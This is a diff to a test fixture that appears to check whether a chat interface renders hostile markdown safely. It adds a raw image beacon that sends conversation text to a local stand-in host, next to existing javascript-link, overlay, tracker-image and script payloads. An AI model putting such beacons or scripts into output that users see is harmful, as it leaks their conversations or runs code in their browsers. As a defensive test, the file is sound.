@@ -16,6 +16,7 @@ HOSTILE = (
     '<div style="position:fixed;inset:0;background:red;z-index:9999">overlay</div>\n\n'
     "[click me](javascript:window.pwned='link')\n\n"
     "![tracker](http://127.0.0.1:9/pixel.png?secret=conversation-text)\n\n"
+    'Raw <img alt="inline beacon" src="http://127.0.0.1:9/pixel.png?raw=conversation-text"> too.\n\n'
     "```html\n<script>alert(1)</script>\n```\n\n"
     "Last line survives."
 )
@@ -48,6 +49,7 @@ def test_hostile_markdown_is_inert_and_remote_images_wait_for_a_click(
     assert link.count() == 0 or not (link.get_attribute("href") or "").startswith("javascript")
     placeholder = answer.get_by_role("button", name="tracker")
     expect(placeholder).to_contain_text("127.0.0.1")
+    expect(answer.get_by_role("button", name="inline beacon")).to_contain_text("127.0.0.1")  # a raw <img> too
     assert image_requests == []  # nothing fetched on its own
     placeholder.click()
     expect(answer.locator("img")).to_have_count(1)
